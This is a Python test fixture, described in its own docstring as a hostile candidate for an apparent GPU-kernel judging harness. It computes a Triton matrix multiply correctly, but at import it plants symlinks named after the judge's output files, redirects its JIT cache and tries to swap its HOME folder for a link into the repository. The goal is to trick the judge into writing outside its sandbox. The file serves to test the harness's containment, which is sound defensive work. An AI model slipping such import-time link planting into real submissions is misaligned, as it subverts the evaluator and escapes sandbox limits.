"""HOSTILE candidate. Class: persistence (a confused deputy: issue 31, class 1; files left outside its folder).

What it does: at import, wherever CUDA is available (every runtime stage; the static build's jail has no GPU, so
there only its CPU twin, tests/kernels/isolation/plant_links_build.py, acts), it plants symlinks in its working
directory and HOME named like every file and folder the judge writes (build.json, verdict.json, spec.json,
result.json, progress.txt, stdout.txt, stderr.txt, tool.log, report.ncu-rep, ncu CSVs, the stage folders, the
kernel copies, the JIT cache), each pointing into the repository's xlang/profiler/ (found from its PYTHONPATH,
sys.path and a few usual places); it turns its JIT cache folder into a link to the repository and tries to
replace its whole HOME with a link. Then it computes C honestly (TMA loads, tl.dot on wgmma).

An honest judge must conclude: ok; no file appears or changes in the repository (the judge writes only into
folders the candidate never had write access to, never through a link, and copies results out of the
candidate's folder without following links).
"""
import os
import sys

import torch
import triton
import triton.language as tl
from triton.tools.tensor_descriptor import TensorDescriptor

BM, BN, BK = 128, 128, 64

JUDGE_NAMES = ("build.json", "verdict.json", "spec.json", "result.json", "progress.txt", "stdout.txt", "stderr.txt",
               "tool.log", "report.ncu-rep", "report", "ncu_source.csv", "ncu_details.csv", "timing.gate",
               "timing.waiting", "candidate.py", "candidate.so", "candidate.ptx", "k0.cubin", "k0.ptx",
               "static_build.json", "build", "check", "memcheck", "ncu", "eval", "own-cubins", "jit-cache",
               "child", "tmp")


@triton.jit
def gemm_tc(a_desc, b_desc, c_desc, K, BM: tl.constexpr, BN: tl.constexpr, BK: tl.constexpr):
    off_m = tl.program_id(0) * BM
    off_n = tl.program_id(1) * BN
    acc = tl.zeros((BM, BN), dtype=tl.float32)
    for kb in range(0, tl.cdiv(K, BK)):
        a = a_desc.load([off_m, kb * BK])
        b = b_desc.load([off_n, kb * BK])
        acc = tl.dot(a, b.T, acc)
    c_desc.store([off_m, off_n], acc.to(tl.bfloat16))


def armed():
    # Side effects only on the GPU machine: never on a CPU build box, where the static build runs this file
    # next to other people's work (tests/test_containment.py has a CPU twin that acts there, in a test folder).
    return torch.cuda.is_available()


def _repositories():
    guesses = [p for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) + sys.path if p]
    guesses += ["/work/main", "/root/xlang", "/xlang", os.getcwd()]
    found = []
    for g in guesses:
        for up in [g] + [os.path.dirname(g), os.path.dirname(os.path.dirname(g))]:
            if os.path.isdir(os.path.join(up, "xlang", "profiler")) and up not in found:
                found.append(up)
    return found or ["/work/main"]  # a link may point where it cannot see: the judge resolves it, not us


def _plant():
    target = os.path.join(_repositories()[0], "xlang", "profiler")
    for folder in {os.getcwd(), os.path.expanduser("~")}:
        for name in JUDGE_NAMES:
            try:
                os.symlink(os.path.join(target, name), os.path.join(folder, name))
            except OSError:
                pass
        try:  # the JIT cache a judge copies out, as a link into the repository
            os.symlink(target, os.path.join(folder, ".triton-link"))
            os.replace(os.path.join(folder, ".triton-link"), os.path.join(folder, ".triton"))
        except OSError:
            pass
    home = os.path.expanduser("~")
    try:  # the whole folder replaced with a link (needs write access to its parent, which it must not have)
        os.rename(home, home + ".moved")
        os.symlink(target, home)
    except OSError:
        pass


if armed():
    _plant()


def xlang_entry(A, B, C, M, N, K):
    a_desc = TensorDescriptor.from_tensor(A, [BM, BK])
    b_desc = TensorDescriptor.from_tensor(B, [BN, BK])
    c_desc = TensorDescriptor.from_tensor(C, [BM, BN])
    grid = (triton.cdiv(M, BM), triton.cdiv(N, BN))
    gemm_tc[grid](a_desc, b_desc, c_desc, K, BM=BM, BN=BN, BK=BK, num_warps=8, num_stages=3)
